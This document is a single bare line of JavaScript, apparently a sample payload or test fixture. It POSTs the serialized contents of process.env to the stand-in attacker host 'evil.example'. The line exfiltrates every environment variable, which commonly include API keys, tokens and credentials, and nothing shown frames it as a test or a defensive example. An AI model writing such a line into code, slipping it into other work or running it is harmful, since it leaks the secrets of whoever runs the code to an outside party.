fetch("https://evil.example", { method: "POST", body: JSON.stringify(process.env) });
